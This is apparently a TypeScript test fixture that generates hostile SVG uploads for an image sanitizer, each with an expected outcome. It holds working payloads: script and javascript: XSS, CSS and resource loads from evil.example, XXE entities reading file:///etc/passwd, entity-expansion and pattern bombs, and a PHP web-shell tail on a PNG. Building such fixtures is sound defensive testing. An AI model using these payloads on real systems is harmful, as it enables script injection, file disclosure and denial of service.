// Hostile drawings: each is a small drawing with one attack, and its expected outcome.
import { gzipSync } from 'node:zlib'
import type { HostileFile } from './hostile-files.ts'

export const svgOpen =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 40"'
const SHAPE = '<rect id="r" width="20" height="20" fill="#c00"/>'
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** The same with appended data, and with a header that claims 3,600 megapixels. */
const PNG_TAIL = Buffer.concat([Buffer.from(PNG, 'base64'), Buffer.from('<?php system($_GET[0]);')])
const PNG_BOMB = Buffer.from(PNG, 'base64')
PNG_BOMB.writeUInt32BE(60_000, 16)
PNG_BOMB.writeUInt32BE(60_000, 20)

const drawing = (content: string, attributes = '') => `${svgOpen} ${attributes}>${SHAPE}${content}</svg>`

/** Attacks whose removal leaves a clean drawing: content next to a plain shape. */
const CLEANED: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script-cdata': '<script><![CDATA[alert(1)]]></script>',
  'script-href': '<script href="https://evil.example/x.js"/>',
  'script-prefixed': '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
  'script-xhtml': '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  'script-in-text': '<text><script>alert(1)</script>a</text>',
  'script-in-title': '<title><script>alert(1)</script></title>',
  'script-in-defs': '<defs><script>alert(1)</script></defs>',
  'script-in-metadata': '<metadata><script>alert(1)</script></metadata>',
  'script-upper-case': '<SCRIPT>alert(1)</SCRIPT>',
  'on-click': '<g onclick="alert(1)"><circle r="3"/></g>',
  'on-begin': '<circle r="3" onbegin="alert(1)"/>',
  'on-mixed-case': '<circle r="3" oNcLiCk="alert(1)"/>',
  'on-entities': '<circle r="3" onclick="&#97;lert(1)"/>',
  'on-unknown': '<circle r="3" onwhatever="alert(1)"/>',
  'handler-tiny12':
    '<handler type="application/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">alert(1)</handler>',
  'listener-tiny12': '<listener event="click" handler="https://evil.example/"/>',
  'a-javascript': '<a href="javascript:alert(1)"><circle r="3"/></a>',
  'a-javascript-xlink': '<a xlink:href="javascript:alert(1)"><circle r="3"/></a>',
  'a-javascript-tab': '<a href="java&#9;script:alert(1)"><circle r="3"/></a>',
  'a-javascript-newline': '<a href="&#10;javascript&#10;:alert(1)"><circle r="3"/></a>',
  'a-javascript-control': '<a href="&#x85;javascript:alert(1)"><circle r="3"/></a>',
  'a-javascript-case': '<a href="JaVaScRiPt:alert(1)"><circle r="3"/></a>',
  'a-other-prefix':
    '<a l:href="javascript:alert(1)" xmlns:l="http://www.w3.org/1999/xlink"><circle r="3"/></a>',
  'a-vbscript': '<a href="vbscript:alert(1)"><circle r="3"/></a>',
  'a-data-html': '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><circle r="3"/></a>',
  'a-outside': '<a href="https://evil.example/"><circle r="3"/></a>',
  'a-relative': '<a href="../../evil.example"><circle r="3"/></a>',
  'a-network-path': '<a href="//evil.example/"><circle r="3"/></a>',
  'animate-href': '<a href="#r"><animate attributeName="href" to="javascript:alert(1)"/><circle r="3"/></a>',
  'animate-xlink-href':
    '<a><animate attributeName="xlink:href" values="javascript:alert(1)"/><circle r="3"/></a>',
  'animate-handler': '<circle r="3"><animate attributeName="onclick" to="alert(1)"/></circle>',
  'set-href': '<a><set attributeName="href" to="javascript:alert(1)"/><circle r="3"/></a>',
  'set-onbegin': '<set attributeName="x" onbegin="alert(1)"/>',
  'animate-motion':
    '<circle r="3"><animateMotion><mpath href="https://evil.example/#p"/></animateMotion></circle>',
  'animate-style':
    '<circle r="3"><animate attributeName="style" to="fill:url(https://evil.example/)"/></circle>',
  'use-outside': '<use href="https://evil.example/x.svg#a"/>',
  'use-outside-xlink': '<use xlink:href="https://evil.example/x.svg#a"/>',
  'use-data':
    '<use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=#x"/>',
  'use-relative': '<use href="evil.example.svg#a"/>',
  'image-outside': '<image href="https://evil.example/x.png" width="9" height="9"/>',
  'image-outside-xlink': '<image xlink:href="http://evil.example/x.png" width="9" height="9"/>',
  'image-file': '<image href="file:///etc/evil.example" width="9" height="9"/>',
  'image-data-svg':
    '<image href="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;/&gt;" width="9" height="9"/>',
  'image-data-svg-as-png':
    '<image href="data:image/png;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPg==" width="9" height="9"/>',
  'image-data-html': '<image href="data:text/html;base64,PHNjcmlwdD4=" width="9" height="9"/>',
  'image-data-tail': `<image href="data:image/png;base64,${PNG_TAIL.toString('base64')}" width="9" height="9"/>`,
  'image-data-bomb': `<image href="data:image/png;base64,${PNG_BOMB.toString('base64')}" width="9" height="9"/>`,
  'image-data-parameter': `<image href="data:image/png;evil.example;base64,${PNG}" width="9" height="9"/>`,
  'feimage-outside': '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
  'xml-base': '<g xml:base="https://evil.example/"><use href="#r"/></g>',
  'attr-url-fill': '<circle r="3" fill="url(https://evil.example/x#p)"/>',
  'attr-url-mask': '<circle r="3" mask="url(https://evil.example/x#p)"/>',
  'attr-url-filter': '<circle r="3" filter="url( &quot;https://evil.example/x#p&quot; )"/>',
  'attr-url-cursor': '<circle r="3" cursor="url(https://evil.example/x.cur), auto"/>',
  'attr-url-escaped': '<circle r="3" fill="\\75rl(https://evil.example/x#p)"/>',
  'attr-url-entity': '<circle r="3" fill="&#117;rl(https://evil.example/x#p)"/>',
  'style-import': '<style>@import "https://evil.example/x.css";.a{fill:red}</style>',
  'style-import-url': '<style>@import url(https://evil.example/x.css);</style>',
  'style-import-escaped': '<style>@\\69mport "https://evil.example/x.css";</style>',
  'style-import-comment':
    '<style>@im/**/port "https://evil.example/x.css"; @import/**/"https://evil.example/y.css";</style>',
  'style-font-face': '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>',
  'style-url': '<style>rect{fill:url(https://evil.example/x)}</style>',
  'style-url-escaped': '<style>rect{fill:u\\72l(https://evil.example/x)}</style>',
  'style-url-quoted': `<style>rect{fill:url( "https://evil.example/x" )}</style>`,
  'style-url-comment': '<style>rect{fill:url(/**/https://evil.example/x)}</style>',
  'style-image-set': '<style>rect{background:image-set("https://evil.example/x" 1x)}</style>',
  'style-src': '<style>rect{background:src("https://evil.example/x")}</style>',
  'style-binding': '<style>rect{-moz-binding:url(https://evil.example/x#b)}</style>',
  'style-behavior': '<style>rect{behavior:url(https://evil.example/x.htc)}</style>',
  'style-expression': '<style>rect{width:expression(alert(1))}</style>',
  'style-media': '<style>@media all{rect{fill:url(https://evil.example/x)}}</style>',
  'style-supports': '<style>@supports (x:y){rect{fill:url(https://evil.example/x)}}</style>',
  'style-charset': '<style>@charset "utf-7";rect{fill:url(https://evil.example/)}</style>',
  'style-namespace': '<style>@namespace url(https://evil.example/);</style>',
  'style-selector-leak': '<style>rect[id="r"]{fill:url(https://evil.example/?r)}</style>',
  'style-unclosed-comment': '<style>rect{fill:red} /* @import "https://evil.example/"</style>',
  'style-unclosed-string': `<style>rect{font-family:"} @import 'https://evil.example/';</style>`,
  'style-html-close': '<style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>',
  'style-cdata-close': '<style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>',
  'style-nested': '<style>a{}<g onclick="alert(1)"/></style>',
  'style-link': '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/"/>',
  'style-attribute': '<circle r="3" style="fill:url(https://evil.example/x)"/>',
  'style-attribute-escaped': '<circle r="3" style="fill:\\000075rl(https://evil.example/x)"/>',
  'style-attribute-variable': '<circle r="3" style="--a:url(https://evil.example/x);fill:var(--a)"/>',
  'foreign-object':
    '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
  'foreign-object-iframe':
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
  'html-integration-title':
    '<title><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></title>',
  'html-integration-desc':
    '<desc><svg><style><a title="&lt;/style&gt;&lt;img src onerror=alert(1)&gt;"/></style></svg></desc>',
  'cdata-breakout': '<text><![CDATA[a]]><![CDATA[><img onerror=x>]]></text>',
  'attr-breakout': '<g id="--&gt;&lt;img src=x onerror=alert(1)&gt;"><circle r="3"/></g>',
  'attr-breakout-title': '<g class="&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;"><circle r="3"/></g>',
  math: '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script>alert(1)</script></mtext></math>',
  'pi-stylesheet': '<?xml-stylesheet href="https://evil.example/x.css"?>',
  'pi-php': '<?php alert(1); ?>',
  comment: '<!-- https://evil.example/ -->',
  xinclude: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/evil.example"/>',
  video: '<video xmlns="http://www.w3.org/2000/svg" src="https://evil.example/"/>',
  'audio-tiny12': '<audio xlink:href="https://evil.example/x.mp3"/>',
  'font-outside':
    '<font-face><font-face-src><font-face-uri xlink:href="https://evil.example/x"/></font-face-src></font-face>',
  'color-profile': '<color-profile name="x" xlink:href="https://evil.example/x.icc"/>',
  tref: '<text><tref xlink:href="https://evil.example/x#t"/></text>',
  'prefetch-tiny12': '<prefetch xlink:href="https://evil.example/"/>',
  'cursor-element': '<cursor xlink:href="https://evil.example/x.cur"/>',
}

Object.assign(CLEANED, {
  'class-flood': `<style>.a{fill:url(#q)}</style><rect class="${'a '.repeat(300_000)}"/>`,
  'selector-nested': `<style>${':not('.repeat(50_000)}a${')'.repeat(50_000)}{fill:red}</style>`,
  'style-string': `<style>text{font-family:"https://evil.example/x"}</style><text font-family="'//evil.example'"/>`,
  'style-string-cut': `<g fill="'a&#10;url(https://evil.example/x)'"><circle r="3"/></g>`,
  'style-variable-string': '<style>:root{--u:"https://evil.example/x"}rect{fill:var(--u)}</style>',
  'style-url-quote-inside': `<g style="fill:url(#a' );fill:url(https://evil.example/x); x:')"><circle r="3"/></g>`,
  'style-image-functions':
    '<style>rect{mask:cross-fade(url(//evil.example),red);mask:-moz-element(#x);mask:paint(evil.example)}</style>',
  'style-layers':
    '<style>@layer a{rect{fill:url(//evil.example)}}@import url(//evil.example) layer(x);</style>',
  'style-document': '<style>@-moz-document url(//evil.example){rect{fill:red}}</style>',
  'style-keyframes': '<style>@keyframes k{from{fill:url(//evil.example)}}rect{animation:k 1s}</style>',
  'style-bracket': `<style>rect{fill:url(#a}b{fill:url(//evil.example)}</style>`,
  'style-filter-program': `<g style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example')"/>`,
  'paint-behind-outside': '<circle r="3" fill="url(https://evil.example/#a) url(//evil.example)"/>',
  'extensions-address': '<g requiredExtensions="https://evil.example/" role="https://evil.example/"/>',
  'event-listener-attributes':
    '<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="https://evil.example/"/>',
  'link-texts': '<g xlink:role="https://evil.example" xlink:title="//evil.example" xlink:actuate="onLoad"/>',
  'xsl-transform': '<x:script xmlns:x="http://www.w3.org/1999/XSL/Transform">alert(1)</x:script>',
  'namespace-unset': '<g xmlns=""><script>alert(1)</script></g>',
  'image-php':
    '<image href="php://evil.example"/><image href="|evil.example"/><image href="msl:evil.example"/>',
  'image-other-sources': `<image src="https://evil.example" srcset="//evil.example" href="data:image/png;base64,${PNG}"/>`,
  'glyphs-outside': '<text><altGlyph xlink:href="https://evil.example#g">a</altGlyph></text>',
  'gradient-outside': '<linearGradient xlink:href="//evil.example#g"/><pattern href="evil.example.svg#p"/>',
  'a-target': '<a href="#r" target="//evil.example" ping="//evil.example"><circle r="3"/></a>',
  'a-intent': '<a href="intent://evil.example#Intent;end"><circle r="3"/></a>',
  'a-fragment-script': '<a href="#javascript:alert(1)"><circle r="3"/></a>',
  'pi-import': '<?import namespace="t" implementation="//evil.example"?>',
})

const WITH_PROLOG: Record<string, string> = {
  'no-namespace':
    '<svg viewBox="0 0 1 1" onload="alert(1)"><script>alert(1)</script><rect width="1" height="1"/><a xlink:href="javascript:alert(1)"><rect/></a></svg>',
  'no-namespace-inside':
    '<svg viewBox="0 0 1 1"><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="//evil.example"/><rect width="1" height="1"/></svg>',
  'pi-before-root': `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${drawing('')}`,
  'doctype-public': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd">${drawing('')}`,
  'doctype-attlist': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${drawing('')}`,
  'entity-plain': `<!DOCTYPE svg [<!ENTITY c "red">]>${drawing('<circle r="3" fill="&c;"/>')}`,
  'entity-hides-scheme': `<!DOCTYPE svg [<!ENTITY j "javascript:">]>${drawing('<a href="&j;alert(1)"><circle r="3"/></a>')}`,
  'entity-named-collision': `<!DOCTYPE svg [<!ENTITY lt "x"><!ENTITY __proto__ "y"><!ENTITY constructor "z">]>${drawing('<text>&lt;script&gt;&constructor;</text>')}`,
  'onload-on-root': drawing('', 'onload="alert(1)"'),
  'utf16-le': `\ufeff${drawing('<script>alert(1)</script>')}`,
}

const REFUSED: Record<string, string | Buffer> = {
  'xxe-file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
  'xxe-http': `<!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/">]>${drawing('<text>&x;</text>')}`,
  'xml-1.1-controls': `<?xml version="1.1"?>${drawing('<text>&#1;</text>')}`,
  'entity-markup-by-number': `<!DOCTYPE svg [<!ENTITY x "&#60;script>">]>${drawing('<text>&x;</text>')}`,
  'xxe-notation': `<!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/" NDATA g>]>${drawing('')}`,
  'utf16-without-mark': Buffer.from(drawing(''), 'utf16le'),
  'utf16-only-declared': `<?xml version="1.0" encoding="UTF-16"?>${drawing('')}`,
  'xxe-public': `<!DOCTYPE svg [<!ENTITY x PUBLIC "a" "http://evil.example/">]>${drawing('<text>&x;</text>')}`,
  'xxe-parameter': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>${drawing('')}`,
  laughs: `<!DOCTYPE svg [<!ENTITY a "ha">${[...'bcdefghi'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`).join('')}]>${drawing('<text>&i;</text>')}`,
  quadratic: `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(900)}">]>${drawing(`<text>${'&a;'.repeat(5000)}</text>`)}`,
  'entity-markup': `<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>${drawing('&a;')}`,
  'entity-undefined': drawing('<text>&nothing;</text>'),
  'not-well-formed': `${svgOpen}><rect></svg>`,
  'two-roots': drawing('') + drawing(''),
  'other-namespace': '<svg xmlns="http://www.w3.org/1999/xhtml"><rect width="1" height="1"/></svg>',
  'use-itself': drawing('<g id="g"><use href="#g"/></g>'),
  'other-root': '<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/2000/svg"/></html>',
  'only-script': `${svgOpen}><script>alert(1)</script></svg>`,
  'only-outside-image': `${svgOpen}><image href="https://evil.example/x.png" width="9" height="9"/></svg>`,
  'only-definitions': `${svgOpen}><defs><rect width="1" height="1"/></defs></svg>`,
  empty: `${svgOpen}/>`,
  'bad-utf8': Buffer.concat([
    Buffer.from(`${svgOpen}><text>`),
    Buffer.from([0xc0, 0xbc]),
    Buffer.from('</text></svg>'),
  ]),
  utf7: `<?xml version="1.0" encoding="UTF-7"?>${drawing('+ADw-script+AD4-alert(1)')}`,
  'unknown-encoding': `<?xml version="1.0" encoding="EBCDIC-CP-US"?>${drawing('')}`,
  svgz: gzipSync(drawing('')),
  deep: `${svgOpen}>${'<g>'.repeat(4000)}<rect/>${'</g>'.repeat(4000)}</svg>`,
  'deep-unclosed': `${svgOpen}>${'<g>'.repeat(50_000)}`,
  'attr-flood': `${svgOpen}>${Array.from({ length: 30 }, () => `<g ${Array.from({ length: 40_000 }, (_, index) => `a${index}="1"`).join(' ')}/>`).join('')}</svg>`,
  'too-many-elements': `${svgOpen}>${'<rect/>'.repeat(100_000)}</svg>`,
  'use-bomb': `${svgOpen}><defs><g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 12 }, (_, index) => `<g id="a${index + 1}">${`<use href="#a${index}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#a12"/></svg>`,
  'pattern-bomb': `${svgOpen}><defs>${Array.from({ length: 12 }, (_, index) => `<pattern id="p${index + 1}">${`<rect fill="url(#p${index})"/>`.repeat(10)}</pattern>`).join('')}</defs><rect fill="url(#p12)" width="1" height="1"/></svg>`,
}

/** Patterns each of which is painted ten times with the previous one, in the given notation. */
function patterns(paint: (previous: string, rect: string) => string, before = ''): string {
  const rect = '<rect width="5" height="5"'
  const all = Array.from({ length: 12 }, (_, index) => {
    const content = paint(`p${index}`, rect)
    return `<pattern id="p${index + 1}" width="1" height="1">${content}</pattern>`
  })
  return `${svgOpen}>${before}${all.join('')}${rect} fill="url(#p12)"/></svg>`
}

const sheet = (selector: (index: number) => string, property = 'fill') =>
  `<style>${Array.from({ length: 12 }, (_, index) => `${selector(index)}{${property}:url(#p${index})}`).join('')}</style>`

Object.assign(REFUSED, {
  'pattern-bomb-handed-down': patterns((id, rect) => `<g fill="url(#${id})">${`${rect}/>`.repeat(10)}</g>`),
  'pattern-bomb-style': patterns((id, rect) => `${rect} style="fill:url('#${id}')"/>`.repeat(10)),
  'pattern-bomb-sheet': patterns(
    (id, rect) => `${rect} class="x ${id}"/>`.repeat(10),
    sheet((index) => `g .p${index}`),
  ),
  'pattern-bomb-sheet-inside': patterns(
    (id, rect) => `<g id="g${id}">${`${rect}/>`.repeat(10)}</g>`,
    sheet((index) => `#gp${index}`),
  ),
  'pattern-bomb-variable': patterns(
    (id, rect) => `<g style="--a:url(#${id})">${`${rect} style="fill:var(--a)"/>`.repeat(10)}</g>`,
  ),
  'mask-bomb-sheet': patterns(
    (id, rect) => `${rect} class="${id}"/>`.repeat(10),
    sheet((index) => `.p${index}`, 'mask'),
  )
    .replaceAll('pattern', 'mask')
    .replace('fill="url(#p12)"', 'mask="url(#p12)"'),
  'rules-without-end': `${svgOpen}><style>${Array.from({ length: 20_000 }, (_, index) => `*{fill:url(#q${index})}`).join('')}</style>${SHAPE.repeat(20_000)}</svg>`,
})

export function hostileDrawings(): HostileFile[] {
  const cleaned = Object.entries(CLEANED).map(([name, content]) => [name, drawing(content)] as const)
  const prolog = Object.entries(WITH_PROLOG).map(
    ([name, text]) => [name, name.startsWith('utf16') ? Buffer.from(text, 'utf16le') : text] as const,
  )
  const file = (name: string, content: string | Buffer, expected: HostileFile['expected']): HostileFile => ({
    name: `svg-${name}`,
    upload: 'drawing.svg',
    bytes: Buffer.from(content as string),
    expected,
  })
  return [
    ...[...cleaned, ...prolog].map(([name, content]) => file(name, content, 'cleaned')),
    ...Object.entries(REFUSED).map(([name, content]) => file(name, content, 'refused')),
    file('control', drawing('<style>.a{fill:red}</style><rect class="a" width="3" height="3"/>'), 'accepted'),
    file(
      'image-data-png',
      drawing(`<image href="data:image/png;base64,${PNG}" width="9" height="9"/>`),
      'accepted',
    ),
  ]
}
